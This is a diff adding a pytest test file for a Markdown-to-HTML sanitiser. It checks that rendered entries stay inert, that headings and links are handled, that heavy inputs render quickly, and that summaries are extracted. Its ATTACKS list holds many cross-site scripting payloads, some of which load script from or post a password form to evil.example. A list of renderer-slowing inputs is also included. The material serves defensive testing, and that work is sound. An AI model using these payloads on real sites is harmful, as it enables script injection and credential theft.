@@ -1,0 +1,479 @@
+"""An entry's text as HTML that cannot hurt: what passes, what does not, and how it looks."""
+
+from __future__ import annotations
+
+import re
+from html.parser import HTMLParser
+from time import process_time
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from markupsafe import Markup
+
+from digest.content.markdown import Facts, TextRefused, inspect, render
+
+DEPTH = 100
+URL_ATTRIBUTES = {"href", "src", "cite", "action", "formaction", "data", "poster", "background", "srcset"}
+
+
+def here(link: str) -> str | None:
+    """A site that holds other.md and map.png, and nothing else."""
+    return {"other.md": "../other/", "map.png": "../map.png"}.get(link.partition("#")[0])
+
+
+def html(text: str) -> str:
+    return str(render(text, here, DEPTH))
+
+
+def elements(text: str) -> list[tuple[str, dict[str, str | None]]]:
+    """The elements a browser would find, with their attributes."""
+    found: list[tuple[str, dict[str, str | None]]] = []
+
+    class Reader(HTMLParser):
+        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+            found.append((tag, dict(attrs)))
+
+    reader = Reader()
+    reader.feed(html(text))
+    reader.close()
+    return found
+
+
+def assert_inert(text: str) -> None:
+    """Nothing that runs, styles, submits, embeds, or leads to anything but a web page or a mailbox."""
+    for tag, attributes in elements(text):
+        assert tag not in {
+            "script", "style", "iframe", "object", "embed", "form", "button", "select", "textarea", "base", "meta",
+            "link", "svg", "math", "template", "noscript", "frame", "frameset", "applet", "video", "audio", "source",
+            "dialog", "portal", "html", "head", "body", "title",
+        }  # fmt: skip
+        for name, value in attributes.items():
+            assert not name.startswith("on")
+            assert name not in {"style", "srcdoc", "srcset", "target", "action", "formaction", "name", "is"}
+            if name == "tabindex":
+                assert tag in ("pre", "table") and value == "0"
+            if name == "id":
+                assert re.fullmatch(r"fn(ref)?-.+", value or "")
+            if name in URL_ATTRIBUTES:
+                scheme = re.match(r"[\s\x00-\x20]*([^/?#:]*):", value or "")
+                assert scheme is None or scheme[1].lower() in {"http", "https", "mailto"}
+            if tag == "input":
+                assert attributes.get("type") == "checkbox"
+                assert "disabled" in attributes
+            if tag == "img" and name == "src":
+                assert not re.match(r"[a-z]+:|//", value or "", re.IGNORECASE)
+
+
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
+    "<scr<script>ipt>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=map.png onerror=alert(1)>",
+    "<svg onload=alert(1)><script>alert(1)</script></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<math><mi//xlink:href='javascript:alert(1)'>x</mi></math>",
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
+    '<form action="https://evil.example"><input name=q type=password><button formaction=x>go</button></form>',
+    '<base href="https://evil.example/">',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<style>body { display: none }</style>",
+    '<p style="position:fixed;inset:0">x</p>',
+    "<a href=# onclick=alert(1)>x</a>",
+    '<div onmouseover="alert(1)" id="__search" class="md-header">x</div>',
+    "<details open ontoggle=alert(1)><summary>x</summary></details>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<template><script>alert(1)</script></template>",
+    "<textarea><img src=x onerror=alert(1)></textarea>",
+    "<title><img src=x onerror=alert(1)></title>",
+    "<xmp><img src=x onerror=alert(1)></xmp>",
+    "<plaintext>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<!-- --!><img src=x onerror=alert(1)> -->",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "<?xml version='1.0'?><script>alert(1)</script>",
+    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
+    "<video src=https://evil.example/v.mp4 autoplay><source src=x onerror=alert(1)></video>",
+    "<img srcset='https://evil.example/x.png 1x' src='data:image/svg+xml,<svg onload=alert(1)>'>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](java&Tab;script:alert(1))",
+    "[x](<java\tscript:alert(1)>)",
+    "[x](<\x01javascript:alert(1)>)",
+    '<a href="java\nscript:alert(1)">x</a>',
+    '<a href=" &#14; javascript:alert(1)">x</a>',
+    "[x](data:text/html,<script>alert(1)</script>)",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](vbscript:msgbox(1))",
+    "[x](file:///etc/passwd)",
+    "<javascript:alert(1)>",
+    "![x](javascript:alert(1))",
+    '![x"onerror="alert(1)](map.png)',
+    '![x](map.png "a\\" onerror=\\"alert(1)")',
+    "[x]: javascript:alert(1)\n\n[x]",
+    "# x {: onclick=alert(1) #__search style=color:red }",
+    "```{.py onload=alert(1)}\nx\n```",
+    '``` py" onload="alert(1)\nx\n```',
+    '<img alt="<script>alert(1)</script>" src="https://a.example/x.png">',
+    "<img alt='x><script>alert(1)</script>' src=https://a.example/x.png>",
+    "<a title='</a><img src=x onerror=alert(1)>'>x</a>",
+    "<h1 title='<h2><img src=x onerror=alert(1)>'>x</h1>",
+    '[^1"onclick=alert(1)]\n\n[^1"onclick=alert(1)]: x',
+    "> [!NOTE] <img src=x onerror=alert(1)>\n> x",
+    "|a|\n|-|\n|<script>alert(1)</script>|",
+    "- [x] <input type=text onfocus=alert(1) autofocus>",
+    'www.example.com" onclick="alert(1)',
+    "<a href='https://a.example' target=_top name=x is=y>x</a>",
+]
+
+
+@pytest.mark.parametrize("text", ATTACKS)
+def test_attacks_are_inert(text: str) -> None:
+    """No script, handler, style, frame, form, or disguised address comes through, in HTML or in Markdown."""
+    assert_inert(text)
+    assert "alert(1)</script>" not in html(text)
+
+
+@given(st.lists(st.sampled_from([*ATTACKS, "\n", "\n\n", "> ", "- ", "*", "`", '"', "'", "<", ">", "x"]), max_size=6))
+def test_attacks_together_are_inert(parts: list[str]) -> None:
+    """Put together in any way, each in the middle of another, they are inert still."""
+    assert_inert("".join(parts))
+
+
+@given(st.lists(st.sampled_from([
+    "<h1>", "</h1>", "<h3 title='", "'>", "<a href='https://a.example'>", "</a>", "<img src='https://a.example/x.png'>",
+    "<img alt='", '<img title="', '">', "<p>", "onerror=x ", "<!--", "-->", "&quot;", "text", "\n\n",
+]), max_size=12))  # fmt: skip
+def test_what_is_put_in_order_after_sanitising_stays_safe(parts: list[str]) -> None:
+    """Ordering headings and turning pictures into links never makes an element or attribute out of text."""
+    assert_inert("".join(parts))
+
+
+def test_templates_are_text() -> None:
+    """What a template engine would run is printed as it is."""
+    text = "{{ config }} {% include 'x' %} {{ x.y|safe }} {# x #}"
+    assert html(text) == "<p>{{ config }} {% include 'x' %} {{ x.y|safe }} {# x #}</p>\n"
+
+
+def test_a_text_is_never_metadata() -> None:
+    """Lines that MkDocs would take for metadata are text."""
+    assert html("template: ../../x\nNote: a") == "<p>template: ../../x\nNote: a</p>\n"
+    assert "template" in html("---\ntemplate: ../../x\n---\n")
+
+
+# --- what the sanitiser lets through beyond its defaults, one test each
+
+
+@pytest.mark.parametrize(
+    ("ours", "material"),
+    [("NOTE", "note"), ("TIP", "tip"), ("IMPORTANT", "info"), ("WARNING", "warning"), ("CAUTION", "danger")],
+)
+def test_alerts_look_like_admonitions(ours: str, material: str) -> None:
+    """A GitHub alert has the classes of Material's admonition, its title too."""
+    assert html(f"> [!{ours}]\n> Text.") == (
+        f'<div class="admonition {material}">\n<p class="admonition-title">{ours.capitalize()}</p>\n'
+        "<p>Text.</p>\n</div>\n"
+    )
+
+
+def test_footnotes() -> None:
+    """Footnotes link there and back, by ids with their own prefix."""
+    found = elements("One[^a].\n\n[^a]: A note.")
+    assert ("sup", {"class": "footnote-ref"}) in found
+    assert ("a", {"href": "#fn-a", "id": "fnref-a"}) in found
+    assert ("section", {"class": "footnotes"}) in found
+    assert ("li", {"id": "fn-a"}) in found
+    assert any(attributes.get("class") == "footnote-backref" and attributes["href"] == "#fnref-a"
+               for _, attributes in found)  # fmt: skip
+
+
+def test_task_lists() -> None:
+    """Task lists show boxes that cannot be ticked, and no other field can be made of them."""
+    assert elements("- [x] a\n- [ ] b") == [
+        ("ul", {}),
+        ("li", {}), ("input", {"checked": "", "type": "checkbox", "disabled": "", "aria-label": "✓"}),
+        ("li", {}), ("input", {"type": "checkbox", "disabled": "", "aria-label": "✓"}),
+    ]  # fmt: skip
+    assert elements("<input type=password name=p value=x>") == [
+        ("input", {"type": "checkbox", "disabled": "", "aria-label": "✓"})
+    ]
+
+
+def test_tables_keep_their_alignment() -> None:
+    """A column's alignment stays."""
+    found = elements("|a|b|c|\n|:-|-:|:-:|\n|1|2|3|")
+    assert [attributes for tag, attributes in found if tag in ("th", "td")] == [
+        {"class": "is-left"}, {"class": "is-right"}, {"class": "is-center"},
+    ] * 2  # fmt: skip
+
+
+def test_code_keeps_its_language() -> None:
+    """A code block keeps the class of its language, and nothing else that is written there."""
+    assert html("```c++\nx < 1\n```") == '<pre tabindex="0"><code class="language-c++">x &lt; 1\n</code></pre>\n'
+    assert elements("<code class='md-header language-x'>x</code>") == [("p", {}), ("code", {})]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<div class='md-header'>x</div>",
+        "<div class='admonition note'>x</div>",
+        "<p class='footnotes'>x</p>",
+        "<a class='md-button' href='other.md'>x</a>",
+        "<p id='fn-1'>x</p>",
+        "<li id='__search'>x</li>",
+        "<a id='__nav'>x</a>",
+        "<a id='fn'>x</a>",
+        "<h2 id='fn-1'>x</h2>",
+        "<span class='a' id='b'>x</span>",
+        "# Heading",
+    ],
+)
+def test_no_other_class_or_id(text: str) -> None:
+    """A class or id that is not in the closed list, or on an element that it is not for, is dropped."""
+    assert not {"class", "id"} & {name for _, attributes in elements(text) for name in attributes}
+
+
+def test_ordinary_markdown() -> None:
+    """Tables, lists, strikethrough, bare addresses and sound inline HTML come through."""
+    assert html("~~a~~ *b* **c** `d`") == "<p><del>a</del> <em>b</em> <strong>c</strong> <code>d</code></p>\n"
+    assert html("https://a.example/x?a=1&b=2") == (
+        '<p><a href="https://a.example/x?a=1&amp;b=2">https://a.example/x?a=1&amp;b=2</a></p>\n'
+    )
+    assert html("H<sub>2</sub>O<br><kbd>x</kbd>") == "<p>H<sub>2</sub>O<br><kbd>x</kbd></p>\n"
+    assert isinstance(render("x", here, DEPTH), Markup)
+    assert html(" \n\t\n") == ""
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("**「太字」**の話", "<p><strong>「太字」</strong>の話</p>\n"),
+        ("これは**強調。**です", "<p>これは<strong>強調。</strong>です</p>\n"),
+        ("他说**“你好”**然后走了", "<p>他说<strong>“你好”</strong>然后走了</p>\n"),
+        ("**북한(DPRK)**은", "<p><strong>북한(DPRK)</strong>은</p>\n"),
+    ],
+)
+def test_emphasis_beside_characters_without_spaces(text: str, shown: str) -> None:
+    """In scripts without spaces, emphasis that ends in punctuation is emphasis."""
+    assert html(text) == shown
+
+
+# --- one text never alters another
+
+
+def test_reference_links_do_not_bleed() -> None:
+    """Each text has its own [1] and [^1]; one that defines none has none, whatever was rendered before."""
+    assert "https://one.example" in html("See [1].\n\n[1]: https://one.example\n[^1]: Note")
+    assert "https://two.example" in html("See [1].\n\n[1]: https://two.example")
+    assert html("See [1] and[^1].") == "<p>See [1] and[^1].</p>\n"
+
+
+@pytest.mark.parametrize("text", ["<div>", "<!-- ", "<details>", "```\nx", "<table><tr><td>", "</div></section></main>",
+                                  "<b><i>x", "</p></li></ul>", "<a href='other.md'>x", "<select><option>"])  # fmt: skip
+def test_what_is_left_open_is_closed(text: str) -> None:
+    """Every element that a text opens ends in it, and it closes none that it did not open."""
+    depth = 0
+
+    class Balance(HTMLParser):
+        def handle_starttag(self, tag: str, attrs: object) -> None:
+            nonlocal depth
+            depth += tag not in {"br", "hr", "img", "input", "col", "wbr"}
+
+        def handle_endtag(self, tag: str) -> None:
+            nonlocal depth
+            depth -= 1
+            assert depth >= 0
+
+    balance = Balance()
+    balance.feed(html(text) + "<p>after</p>")
+    balance.close()
+    assert depth == 0
+    assert html(text).count("<!--") == 0
+
+
+# --- headings, links, pictures
+
+
+@pytest.mark.parametrize(
+    ("text", "levels"),
+    [
+        ("# A\n\n## B\n\n# C", [2, 3, 2]),
+        ("### A\n\n# B\n\n###### C", [2, 2, 3]),
+        ("# A\n\n#### B\n\n## C\n\n### D", [2, 3, 3, 4]),
+        ("# 1\n\n## 2\n\n### 3\n\n#### 4\n\n##### 5\n\n###### 6", [2, 3, 4, 5, 6, 6]),
+        ("<h1>A</h1>\n\n<h6>B</h6>", [2, 3]),
+        ("<h1 title='x'>A</h1>\n\n## B", [2, 3]),
+        ("<h1 lang='ko'>A</h1>", [2]),
+        ("A\n=\n\nB\n-", [2, 3]),
+        ("> # A\n\n- # B", [2, 2]),
+    ],
+)
+def test_headings_begin_at_two_without_a_gap(text: str, levels: list[int]) -> None:
+    """The page has the one h1; a text's headings begin at h2 and skip no level, however they are written."""
+    shown = html(text)
+    assert [int(level) for level in re.findall(r"<h([1-6])\b", shown)] == levels
+    assert [int(level) for level in re.findall(r"</h([1-6])>", shown)] == levels
+
+
+def test_links_of_this_site() -> None:
+    """A link to a file leads to its page; what leads nowhere is text without an address."""
+    assert html("[a](other.md)") == '<p><a href="../other/">a</a></p>\n'
+    assert html("[a](#fn-1) [b](https://b.example/) [c](mailto:c@d.example)").count("href=") == 3
+    assert html("[a](nowhere.md)") == "<p><a>a</a></p>\n"
+    assert "href" not in html("[a](/etc/passwd) [b](../../../x) [c](..\\x)")
+
+
+def test_pictures_of_this_site() -> None:
+    """A picture of this site is shown, and fetched when it is come to."""
+    assert html("![A map](map.png)") == '<p><img loading="lazy" src="../map.png" alt="A map"></p>\n'
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("![A map](https://a.example/m.png)", '<a href="https://a.example/m.png">A map</a>'),
+        ("![](https://a.example/m.png)", '<a href="https://a.example/m.png">m.png</a>'),
+        ("![a](//a.example/m.png)", '<a href="//a.example/m.png">a</a>'),
+        ("[![a](https://a.example/m.png)](https://b.example)", '<a href="https://b.example">a</a>'),
+        ("![A map](nowhere.png)", "A map"),
+        ("![a](data:image/png;base64,AA==)", "a"),
+        ("![a < b & c](https://a.example/m.png)", '<a href="https://a.example/m.png">a &lt; b &amp; c</a>'),
+        ("<IMG SRC='https://a.example/m.png' ALT=\"a'b\">", '<a href="https://a.example/m.png">a\'b</a>'),
+    ],
+)
+def test_pictures_from_elsewhere_are_links(text: str, shown: str) -> None:
+    """TrackedIndex a page asks nothing of another host: a picture there is a link to it, or its words."""
+    assert html(text).replace("<p>", "").replace("</p>", "").strip() == shown
+
+
+# --- limits
+
+LINE = 200_000
+HEAVY = {
+    "brackets": "[" * 50_000,
+    "pictures": "![" * 2_000,
+    "nested links": "[a](" * 10_000,
+    "reference brackets": "[" * 5_000 + "a" + "]" * 5_000,
+    "emphasis": "*a_ " * 20_000,
+    "stars": "*" * 50_000 + "a" + "*" * 50_000,
+    "openers": "**x [a*b**c*](d)" * 5_000,
+    "strikes": "a~~~~b" * 10_000,
+    "backticks": "".join("e" + "`" * number for number in range(1, 1_500)),
+    "unclosed links": "[a](<b" * 10_000,
+    "unclosed comments": "</" + "<!--" * 10_000,
+    "declarations": "<?" * 10_000 + "<!A " * 10_000,
+    "quotations": "> " * 1_000 + "a",
+    "quotations by line": "\n".join(">" * number + " a" for number in range(1, 100)),
+    "lists": "".join("  " * number + "- a\n" for number in range(1_000)),
+    "numbered lists": "1. " * 1_000 + "a",
+    "elements": "<div>" * 20_000,
+    "inline elements": "<b>" * 20_000,
+    "mixed containers": "> - " * 500 + "a",
+    "ampersands": "&" * LINE,
+    "entities": "&lt;" * 50_000,
+    "tables": "|" + "a|" * 1_000 + "\n|" + "-|" * 1_000 + "\n" + "|x\n" * 100,
+    "footnotes": "".join(f"[^{number}]" for number in range(5_000)) + "\n\n[^1]: x\n",
+    "footnotes in footnotes": "".join(f"[^{number}]: [^{number + 1}]\n\n" for number in range(2_000)) + "[^0]",
+    "one footnote often": "[^a]" * 20_000 + "\n\n[^a]: x\n",
+    "definitions": "".join(f"[{number}]: x\n" for number in range(10_000)),
+    "hard breaks": "a  \n" * 20_000,
+    "one line": "a" * 1_000_000,
+    "spaces": " " * LINE + "a",
+    "tabs": "\t" * LINE,
+    "quotation marks": "“" * 40_000,
+    "attributes": "<a " + "x=y " * 20_000 + ">",
+    "angle brackets": "<" * LINE,
+    "closing tags": "</a>" * 20_000,
+    "autolinks": "www." * 20_000,
+    "addresses": "a@" * 20_000 + "b",
+    "headings": "# a\n" * 20_000,
+    "nul": "\0" * LINE,
+}
+
+
+@pytest.mark.parametrize("text", HEAVY.values(), ids=HEAVY.keys())
+def test_nothing_is_slow(text: str) -> None:
+    """What makes renderers slow is rendered or refused in moments, with nothing but `TextRefused` raised."""
+    began = process_time()
+    for work in (lambda: inspect(text, DEPTH), lambda: render(text, here, DEPTH)):
+        try:
+            work()
+        except TextRefused as refused:
+            assert str(refused)
+    assert process_time() - began < 20
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["> " * 101 + "a", "- " * 101 + "a", "<div>" * 101, "".join("  " * number + "- a\n" for number in range(60))],
+    ids=["quotations", "items", "elements", "lists by indent"],
+)
+def test_depth_is_limited(text: str) -> None:
+    """A text that nests deeper than the limit is refused before the sanitiser sees it."""
+    with pytest.raises(TextRefused, match="nest more than 100 deep"):
+        render(text, here, DEPTH)
+    with pytest.raises(TextRefused, match="nest more than 100 deep"):
+        inspect(text, DEPTH)
+
+
+def test_depth_within_the_limit() -> None:
+    """A text that nests less is rendered, however many elements stand side by side."""
+    assert html("> " * 40 + "a").count("<blockquote>") == 40
+    assert html("*a* " * 5_000).count("<em>") == 5_000
+
+
+# --- facts
+
+
+def test_facts() -> None:
+    """The first paragraph in plain text, the links of this site once each, the longest quotation's words."""
+    text = (
+        "# Heading\n\nThe *first* &amp; [only](other.md) paragraph[^1].\n\nMore [a](other.md), [b](<x y.md>), "
+        "[c](https://c.example), [d](#d), ![e](map.png), <a href='f.md'>f</a>, <img src=g.png>.\n\n"
+        "> one two three four\n\n[^1]: Note.\n"
+    )
+    facts = inspect(text, DEPTH)
+    assert facts.first_paragraph.startswith("The first & only paragraph")
+    assert facts.links == ("other.md", "x%20y.md", "map.png", "f.md", "g.png")
+    assert facts.quotation == 4
+    assert inspect(" \n", DEPTH) == Facts()
+
+
+def test_links_in_code_are_no_links() -> None:
+    """What stands in code is shown, not followed."""
+    assert inspect("`[a](b.md)`\n\n    [a](c.md)\n\n```\n<a href='d.md'>\n```\n", DEPTH).links == ()
+
+
+def test_a_summary_has_no_mark_of_a_footnote() -> None:
+    """The first paragraph stands alone as a summary, so it does not carry the number of a footnote."""
+    assert inspect("The launch failed[^1].\n\n[^1]: Note.", DEPTH).first_paragraph == "The launch failed."
+
+
+def test_a_long_first_paragraph_is_cut() -> None:
+    """A summary taken from the text is short, ends at a word, and shows that it was cut."""
+    first = inspect("word " * 100, DEPTH).first_paragraph
+    assert len(first) <= 300
+    assert first.endswith("word…")
+
+
+@pytest.mark.parametrize(
+    ("text", "words"),
+    [
+        ("> " + "word " * 60, 60),
+        ("He said “" + "word " * 60 + "”.", 60),
+        ('He said "' + "word " * 60 + '".', 60),
+        ("Er sagte „" + "wort " * 60 + "“.", 60),
+        ("Il dit «" + "mots " * 60 + "».", 60),
+        ("彼は「" + "言葉" * 60 + "」と言った。", 60),
+        ("He said “word word”.", 2),
+        ("He said nothing.", 0),
+    ],
+)
+def test_quotations(text: str, words: int) -> None:
+    """Long quotations are found in a block and between the quotation marks of many languages."""
+    assert inspect(text, DEPTH).quotation == words
